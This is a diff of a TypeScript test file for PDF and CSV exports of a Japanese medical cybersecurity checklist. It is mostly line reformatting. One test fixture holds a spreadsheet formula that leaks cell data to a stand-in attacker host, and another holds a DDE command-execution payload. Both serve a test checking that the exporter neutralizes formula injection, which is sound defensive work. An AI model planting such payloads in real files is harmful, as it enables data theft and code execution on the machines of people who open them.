@@ -13,7 +13,13 @@ const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'mamori-exports-'));
 afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
 
 const injected = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';
-const round = (n: number, value: 'yes' | 'no', date: string, targetDate: string | null = null, note = ''): ExportRound => ({ round: n, value, date, targetDate, note });
+const round = (n: number, value: 'yes' | 'no', date: string, targetDate: string | null = null, note = ''): ExportRound => ({
+  round: n,
+  value,
+  date,
+  targetDate,
+  note,
+});
 const answers: ExportModel['answers'] = {
   gate: [round(1, 'yes', '2023-07-01')],
   '1(1)': [round(1, 'yes', '2023-07-01', null, injected)],
@@ -117,7 +123,17 @@ describe('PDF export', () => {
 
   it('prints in English with the items’ English text', async () => {
     const text = pdfText(await renderFormPdf(model('institution', { locale: 'en' })), 'english');
-    for (const expected of ['Cybersecurity Checklist for Medical Institutions', 'FY2023', 'Round 1', 'Target date', 'Yes', 'No', '1 Jul 2023', 'Not needed', '1 Organization']) {
+    for (const expected of [
+      'Cybersecurity Checklist for Medical Institutions',
+      'FY2023',
+      'Round 1',
+      'Target date',
+      'Yes',
+      'No',
+      '1 Jul 2023',
+      'Not needed',
+      '1 Organization',
+    ]) {
       expect(text).toContain(expected);
     }
     expect(text).not.toContain('医療機関確認用');
@@ -184,7 +200,9 @@ describe('CSV export', () => {
   const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
 
   it('in Japanese: Japanese headings, はい / いいえ, dates Excel reads (issue 13)', () => {
-    const ja = renderFormCsv(model('institution')).replace(/^\uFEFF/, '').split('\r\n');
+    const ja = renderFormCsv(model('institution'))
+      .replace(/^\uFEFF/, '')
+      .split('\r\n');
     expect(ja[0]).toBe('項目ID,番号,対象,チェック項目,回,回答,確認日,目標日,備考');
     expect(ja).toContain('2(4)@server,(4),サーバ,利用者の職種・担当業務別の情報区分毎のアクセス利用権限を設定している。,1,いいえ,2023/07/01,2024/02/01,');
     expect(ja[1]).toBe('gate,医療情報システムの有無,医療情報システム全般,医療情報システムを導入、運用している。,1,はい,2023/07/01,,');
@@ -193,10 +211,19 @@ describe('CSV export', () => {
   it('starts with a BOM and a header, one CRLF line per item and round', () => {
     expect(csv.startsWith('\uFEFFid,label,scope,text,round,value,date,targetDate,note\r\n')).toBe(true);
     const fields = (line: string) => [line.split(',').slice(0, 3), line.split(',').slice(-5)];
-    expect(fields(lines[1]!)).toEqual([['gate', '医療情報システムの有無', 'general'], ['1', 'yes', '2023-07-01', '', '']]);
+    expect(fields(lines[1]!)).toEqual([
+      ['gate', '医療情報システムの有無', 'general'],
+      ['1', 'yes', '2023-07-01', '', ''],
+    ]);
     expect(lines.filter((l) => l.startsWith('2(4)@server,')).map(fields)).toEqual([
-      [['2(4)@server', '(4)', 'server'], ['1', 'no', '2023-07-01', '2024-02-01', '']],
-      [['2(4)@server', '(4)', 'server'], ['2', 'yes', '2024-01-20', '', '']],
+      [
+        ['2(4)@server', '(4)', 'server'],
+        ['1', 'no', '2023-07-01', '2024-02-01', ''],
+      ],
+      [
+        ['2(4)@server', '(4)', 'server'],
+        ['2', 'yes', '2024-01-20', '', ''],
+      ],
     ]);
     // Unanswered items still get a line, so the file lists the whole form.
     expect(lines.find((l) => l.startsWith('2(6)@server,'))).toMatch(/,,,,,$/);
@@ -206,7 +233,9 @@ describe('CSV export', () => {
 
   it('quotes per RFC 4180 and neutralizes formula-like cells', () => {
     expect(lines.find((l) => l.startsWith('1(1),'))).toMatch(/,1,yes,2023-07-01,,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""詳細""\)"$/);
-    const risky = renderFormCsv(model('institution', { locale: 'en', answers: { '1(1)': [round(1, 'no', '2023-07-01', '2024-01-01', '+cmd|" /C calc"!A0\nline 2')] } }));
+    const risky = renderFormCsv(
+      model('institution', { locale: 'en', answers: { '1(1)': [round(1, 'no', '2023-07-01', '2024-01-01', '+cmd|" /C calc"!A0\nline 2')] } }),
+    );
     expect(risky).toContain(`"'+cmd|"" /C calc""!A0\nline 2"`);
   });
 
